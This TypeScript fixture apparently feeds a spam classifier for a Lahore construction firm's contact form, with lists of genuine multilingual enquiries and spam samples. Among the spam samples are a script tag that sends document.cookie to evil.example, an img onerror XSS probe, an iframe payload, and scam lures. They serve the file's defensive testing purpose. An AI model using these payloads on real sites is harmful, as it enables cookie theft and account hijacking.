/** One message per line; ⏎ stands for a line break. */
const messagesIn = (lines: string): readonly string[] =>
  lines
    .split('\n')
    .map((line) => line.trim().replaceAll('⏎', '\n'))
    .filter((line) => line !== '')

/** Messages that visitors of the site could write: English, Urdu and Roman Urdu. */
export const honestMessages = messagesIn(`
  Please call me.
  Call me back after 5 pm, 0300 1234567.
  I want to build a house on 10 marla in DHA Phase 6. What would grey structure cost?
  We have a 1 kanal plot in Bahria Town and need drawings for two floors and a basement.
  Is the site visit free?
  How long does the approval of the map by LDA take?
  Quote for boundary wall please, 120 running feet, 7 feet high.
  The plot is here: https://maps.app.goo.gl/AbCdEf123456
  Location: https://www.google.com/maps/place/Lahore/@31.5204,74.3587,12z and the corner plot is the one behind the mosque.
  Pictures of the plot are in https://drive.google.com/drive/folders/1a2b3c4d5e
  I like this elevation: https://www.pinterest.com/pin/1234567890/ can you do something similar?
  See https://www.instagram.com/p/AbC123/ and https://pin.it/xyz123 and https://www.houzz.com/photos/kitchen-1 for the style we want.
  The old survey is on our architect's page, www.khanassociates.example/plots/204
  Drawings: https://www.dropbox.com/s/abc/drawing.pdf?dl=0 Photos: https://photos.app.goo.gl/xyz Location: https://goo.gl/maps/abc
  My son's video of the crack: https://youtu.be/abc123XYZ
  Our society's by-laws say 5 feet at the back (https://dhalahore.org/bylaws). Is that still true?
  The listing I want to buy: https://www.zameen.com/Property/dha_phase_7-12345.html Do you check a house before one buys it?
  Two links: www.oldcontractor.example/work and www.tilesfactory.example/catalogue, tell me what you think of them.
  What is the rate per sq ft for A+ quality in Lahore?
  Your estimate says PKR 27,995,990 for 10 marla. Does it include the boundary wall, gate and sewerage?
  Do you also build outside Lahore? Our land is in Sheikhupura, 4 kanal.
  I am overseas (Manchester, UK) and want somebody to supervise my house in Islamabad.
  Please send the company profile and three references.
  Need structural vetting certificate for a school of three storeys.
  We need: ⏎- 4 bedrooms with bath ⏎- 1 guest room ⏎- 1 drawing room ⏎- 1 kitchen and 1 dirty kitchen ⏎- 2 car porch ⏎- servant quarter on the roof
  1. Excavation ⏎2. Foundation ⏎3. Plinth beam ⏎4. Brickwork ⏎5. Lintel ⏎6. Roof slab ⏎7. Plaster ⏎What is the share of each in the cost?
  Bedroom 1: 14x16 ⏎Bedroom 2: 12x14 ⏎Bedroom 3: 12x14 ⏎Lounge: 18x20 ⏎Kitchen: 10x12 ⏎Store: 6x8 ⏎Bath 1: 6x9 ⏎Bath 2: 6x9 ⏎Bath 3: 6x8
  Steel 6.5 tons, cement 900 bags, bricks 65,000, sand 4,500 cft, crush 2,800 cft. Are these quantities right for 5 marla double storey?
  "I will call you tomorrow," your colleague said last week. Nobody has called yet.
  > Thank you for your message. ⏎> We will contact you within 24 hours. ⏎It has been four days now. Please check.
  My budget is 1.5 crore, maybe 1.7, not more. Is it enough for 1 kanal grey structure?
  Budget < 2 crore and area > 3,000 sq ft: possible?
  5 < 6 & 7 > 6. Only testing whether the form works, sorry.
  Is cost = covered area x rate? Then 3,666 x 7,637 = 27,997,242, but you show 27,995,990.
  Can we do ground + 1 now and the 2nd floor after 5 years?
  The contractor left us with columns that lean. Can you inspect and give a report for the court?
  We are a bank and need a valuer's report for a house in Gulberg III by the 15th.
  Loan from HBFC is approved. They ask for a cost estimate with an engineer's stamp. How much do you charge?
  Do you help with the Mera Ghar scheme or any home loan?
  Interior only: flat of 1,450 sq ft, kitchen, wardrobes, false ceiling, lights. When can somebody visit?
  Paint, tiles, and wood work of a used house. Approx 2,800 sq ft.
  Landscaping for a farmhouse of 2 acres, with a pond and a walking track.
  Feasibility for 60 apartments on 4 kanal, commercial on the ground floor.
  I am a student of civil engineering at UET Lahore. Do you offer internships in the summer?
  I have 6 years of experience as a site engineer. CV: https://drive.google.com/file/d/abc/view
  We supply ready-mix concrete in Lahore. Whom should our sales team contact? Rates attached on request.
  We manufacture aluminium windows and would like to be on your list of vendors. Our catalogue: www.windows.example
  Thank you for the good work at our house, Ayesha and Bilal.
  Wonderful website, very helpful calculator. Which rates do you use for steel?
  I found your website through a friend. Can you design a mosque for 300 people?
  I came across your site while looking for consultants for our new office of 6,000 sq ft.
  The calculator on your website shows nothing for 3.5 marla. Is it not possible?
  Website of our school is being made by others; we only need the building. 12 classrooms.
  URGENT!!! Water comes through the roof since yesterday night. Please send someone today.
  PLEASE CALL ME TODAY, IT IS ABOUT THE HOUSE IN BLOCK C.
  Hello hello, is anybody there? Hello?
  Very very very nice houses you make, very nice.
  ?
  10 marla
  Test
  Hi, I want to know the price of a 5 marla house. Thanks.
  Same question as above but for 7 marla corner plot with 10% extra land, facing park.
  ----------------------------------- ⏎Plot 204, Street 17 ⏎-----------------------------------
  ************ ⏎Two floors, basement, lift ⏎************
  =========================== ⏎Quotation needed by Friday ⏎===========================
  Phone numbers: 0300-1234567, 0321-7654321, +92 42 35123456, office 042-111-222-333 ext. 12
  My numbers are 03001234567 / 03211234567 / 03331234567 (WhatsApp).
  Contact: WhatsApp https://wa.me/923001234567 only, I am abroad.
  Email me at ali.khan@example.com or a.khan@example.org, both are read daily.
  The address is House 12-A, Street 4, Sector F-7/2, Islamabad. Near the market.
  Kindly revert with best price. Regards, Haji Muhammad Aslam & Sons, Timber Market, Ravi Road
  Dear Sir, With due respect it is stated that we own a plot of two kanal and wish to construct a marriage hall. Kindly guide us.
  AoA, need 3D front elevation of 25x50 house, modern style with some wood and stone.
  25x45, 25x50, 30x60, 35x65, 40x80, 50x90: do you have ready-made plans for these sizes?
  Solar panels 10 kW and insulation of the roof: do you consult on both?
  Earthquake zone 2B or 3? We build near Islamabad.
  Soil test is done, bearing capacity 1.1 tsf at 5 feet. Report is with me.
  Basement 9 ft clear height, is it allowed in Johar Town?
  Can a 20 feet wide plot have 4 floors? LDA says 38 ft max.
  What will you charge: 5% of the cost or per sq ft?
  Is there any discount for overseas Pakistanis or for two houses side by side?
  We compare three firms. Please send your quotation free of any obligation by Monday.
  Free quote for your services? I mean do I pay for the first visit?
  I am looking for a design like the one in your project gallery, the second with the brick screen.
  The page of the blog about brickwork has a spelling mistake in the third paragraph.
  Please delete my data; I sent an estimate on 3 March with this e-mail address.
  Please remove me from your contact list, I have built already.
  My wife would prefer the kitchen at the front, I would prefer it at the back; what do architects say?
  چھت ٹپک رہی ہے، براہ کرم کسی کو بھیجیں۔
  براہ کرم مجھے کال کریں۔
  السلام علیکم، مجھے دس مرلہ کا گھر بنوانا ہے۔ کل خرچہ کتنا ہو گا؟
  ڈی ایچ اے فیز چھ میں ایک کنال کا پلاٹ ہے۔ نقشہ اور منظوری دونوں چاہییں۔
  کیا آپ ملتان میں بھی کام کرتے ہیں؟
  تہہ خانے کے ساتھ ڈبل سٹوری گھر، چار بیڈ روم، ایک ڈرائنگ روم، دو گاڑیوں کا پورچ۔
  میرا بجٹ ایک کروڑ بیس لاکھ روپے ہے۔ کیا پانچ مرلہ مکمل ہو سکتا ہے؟
  نمبر: 0300-1234567 شام پانچ بجے کے بعد فون کریں۔
  جگہ یہ ہے https://maps.app.goo.gl/XyZ987 مسجد کے ساتھ والا پلاٹ۔
  پچھلے ٹھیکیدار نے کام ادھورا چھوڑ دیا ہے۔ باقی کام آپ کر دیں گے؟
  گرے سٹرکچر کا ریٹ فی مربع فٹ کیا ہے؟
  آپ کی ویب سائٹ بہت اچھی ہے۔ حساب سمجھ میں آ گیا۔
  سیمنٹ، سریا اور اینٹ کے موجودہ ریٹ پر کل لاگت بتا دیں۔
  مجھے صرف نقشہ چاہیے، تعمیر بعد میں کروں گا۔
  کیا پہلی ملاقات کی فیس ہے؟
  ہم باہر رہتے ہیں، نگرانی کے لیے انجینئر چاہیے۔
  دکان اور اوپر دو فلیٹ، پلاٹ بیس ضرب چالیس فٹ۔
  شکریہ، آپ کے انجینئر صاحب نے بہت مدد کی۔
  مکان کی مرمت، رنگ اور ٹائل کا تخمینہ درکار ہے۔
  بچوں کے سکول کے لیے بارہ کمرے اور ایک ہال۔
  Assalam o alaikum, mujhe 5 marla ka ghar banwana hai, total kharcha kitna ho ga?
  Sir rate bata dein grey structure ka Lahore mein.
  10 marla double story with basement ka estimate chahiye, plot Bahria Orchard mein hai.
  Naqsha pass karwane ki fees kitni hai aur kitne din lagte hain?
  Kya aap Faisalabad mein bhi kaam karte hain?
  Bhai mera number 03001234567 hai, sham ko call kar lein.
  Chat tapak rahi hai, jaldi kisi ko bhej dein please.
  Purana ghar gira kar naya banana hai, malba uthana bhi aap karein ge?
  Plot ki location https://goo.gl/maps/AbC123 ye hai, corner wala.
  Hum Dubai mein rehte hain, kaam ki nigrani aap kar sakte hain?
  Ek kanal ka plot hai Wapda Town mein, 2 portion banane hain.
  Budget 80 lakh hai, kya 5 marla complete ho jaye ga A quality mein?
  Ghar ka kaam ruk gaya hai, thekedar bhaag gaya. Help chahiye.
  Ghar baithe estimate mil gaya, bohat acha calculator hai, shukriya.
  Kitchen aur wardrobe ka kaam karwana hai, flat Askari 11 mein hai.
  Meri behan ka ghar bhi aap ne banaya tha, Model Town mein. Ab mera banana hai.
  Aap log solar aur waterproofing bhi karte hain ya sirf construction?
  Front elevation ki 3D chahiye, 30x60 plot hai, modern design.
  Paise kitni qiston mein dene hote hain? Advance kitna hai?
  Agar basement na banayein to kitne paise bachte hain?
  Jee main ne kal bhi message kiya tha, koi jawab nahi aya.
  Mistri kehta hai 6 sutar sariya lagta hai, aap kya kehte hain?
  Farmhouse ke liye 8 kanal zameen hai Bedian Road par.
  Sir jee rate list bhej dein WhatsApp par 0321 7654321.
  Lift lagwani hai purane ghar mein, ho sakta hai?
  Dear team, our company plans a warehouse of 20,000 sq ft in Sundar Industrial Estate, with a crane of 10 tons and a docking bay. Please tell us your fee for structure, supervision and the approval.
  We need an independent review of a bill of quantities (BOQ) of 240 items. Can you do it in a week?
  Which is better for the roof: RCC slab, girder and T-iron, or pre-cast? The span is 14 feet.
  Can a load-bearing wall be removed between lounge and kitchen? Photo: https://imgur.com/a/abc123
  Hello, this is Sara from the school in Gulberg. Following up on our meeting of Tuesday: the board agrees, please send the contract.
  The clinic needs X-ray shielding in one room; who in your team knows about that?
  Please quote for a retaining wall in Murree, 60 ft long and 12 ft high, slope about 30 degrees.
  Could you work with our interior designer from Karachi, or only with your own?
  I would like to invest in a commercial plaza and need advice what to build on the plot.
  We won the auction of a plot in Phase 9 and want to start the design at once.
  Congratulations on the award! We are the neighbours of that project and would like the same gate.
  Restaurant fit-out, 2,200 sq ft, exhaust and drainage are the difficult parts.
  My father wants a ramp instead of stairs, for a wheelchair. What slope do you recommend?
  Do you make drawings in AutoCAD or Revit? Our contractor only reads PDF.
  The tile slots in the bathroom floor are uneven. Is 5 mm a normal tolerance?
  Are your rates of this year? Cement went from Rs 1,250 to Rs 1,400 a bag since then.
  Bonjour, je cherche un architecte à Lahore pour une maison de 400 m². Merci.
  您好，我们是一家中国公司，需要在拉合尔建办公室，约500平方米。请联系我们。
  Здравствуйте, мы хотим построить дом в Лахоре. Перезвоните, пожалуйста.
  👍 Great service! 🏡🏡🏡 Call me please 🙏
`)

/** Advertising and machine-made messages, as contact forms get them. */
export const spamMessages = messagesIn(`
  Hi, I was looking at your website and noticed it does not rank on Google. Our SEO team can bring you to the first page.
  We offer SEO services, high quality backlinks and guest posts at the lowest price. Reply for our price list.
  Get 10,000 targeted visitors per day! Buy traffic here: http://traffic.example/buy
  I visited your website and would like to redesign your website at an affordable cost. Shall I send a quote?
  Boost your sales with our digital marketing agency. Click here: https://marketing.example
  Hello, we provide web design services and mobile app development from India. Do you need a virtual assistant?
  Increase your domain authority to DA 50 with our link building package, 100% free trial.
  Do you want more traffic? Our marketing team uses SEO and social media marketing to get it.
  Your website is not on top of Google! Get a free audit from our SEO experts.
  We have a verified email list of 5 million companies for bulk email. Interested? Unsubscribe by replying STOP.
  Best online casino with free slots games and a jackpot of $10,000! Play now http://casino.example
  1xbet bonus code, bet on cricket and win https://bets.example/?ref=99
  Online poker and betting, deposit bonus 200% https://poker.example
  Cheap viagra and cialis without prescription http://meds.example
  Lose 10 kg in 2 weeks with keto gummies, special offer: https://keto.example
  Earn $500 per day with our bitcoin trading platform. Register https://crypto.example
  Crypto airdrop! Claim your tokens now: https://airdrop.example/claim
  Forex trading signals with 95% profit, join https://signals.example
  Make $5000 a week, work from home, no experience needed. Act now!
  You have been selected as the winner of our lottery. Congratulations, you have won $1,000,000. Contact our agent to claim.
  I am the lawyer of your late relative. The inheritance of 8.5 million dollars, next of kin, risk-free for you.
  Business loan at 2% with no collateral and easy approval. Apply for an instant loan today.
  Personal loans and business loans, bad credit score ok, apply at https://loans.example
  Buy Instagram followers and YouTube likes cheap: https://followers.example
  Replica Rolex watches, 80% off, limited time offer https://replica.example
  Hot girls want to meet you, adult dating in your city http://dating.example
  Sexy women videos and chat http://chat.example/free
  Our company sells quality leads for your business, a database of home owners. Special offer this week.
  Outsource your data entry work to us and save 60% on costs. Our sales team will call you, free trial included.
  Bulk SMS and WhatsApp marketing, verified leads, 50% discount for new customers.
  <a href="http://spam.example">best price</a> <a href="http://spam2.example">click</a>
  [url=http://spam.example]cheap shoes[/url]
  [link=http://spam.example]visit[/link] now
  Nice post! <b>Read more</b> at our page
  <script>document.location='http://evil.example/?c='+document.cookie</script>
  Hello <img src=x onerror=alert(1)> world
  <iframe src="http://evil.example"></iframe>
  http://spam.example/offer
  www.spam.example
  Look https://short.example/Ab3
  https://a.example https://b.example https://c.example
  Visit http://one.example then http://two.example then http://three.example and http://four.example for all the details of our products and prices
  The catalogue: www.one.example, www.two.example, www.three.example
  aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
  hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha hahahaha
  buy now buy now buy now buy now buy now buy now buy now buy now buy now buy now
  test test test test test test test test test test test test test test test test test test
  !!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!
  kXhPqRtLmZaWvBn
  ghBTdkLpSQwEzRtY
  QwErTyUiOpAsDf
  Заработок в интернете от 5000 рублей в день, казино и ставки https://rabota.example
  Продвижение сайтов недорого, пишите https://sites.example
  Кредит онлайн за 5 минут без отказа http://kredit.example
  Интересное предложение для вашей компании, подробности на сайте https://predlozhenie.example
  Ghar bethe paise kamayein, rozana 5000 rupay, abhi join karein https://kamai.example
  گھر بیٹھے پیسے کمائیں، روزانہ پانچ ہزار https://kamai.example
  آن لائن کمائی کا بہترین موقع https://earn.example/urdu
  Dear owner, I reviewed your website and found errors that stop it from ranking on Google. May I send a screenshot?
  I noticed your website could get more visitors. We can help with web design services. Interested?
  We are a white label outsourcing company with SEO experts. Get a free quote for your website.
  Online earning opportunity, passive income with NFTs, click the link in my bio.
  Hello, are you the owner? I have a proposal for you, please reply to this e-mail.
  We can be your partner in China for all construction machinery. Send us your WhatsApp.
  Do you accept payment by card? I want to order a large quantity, tell me your prices.
`)
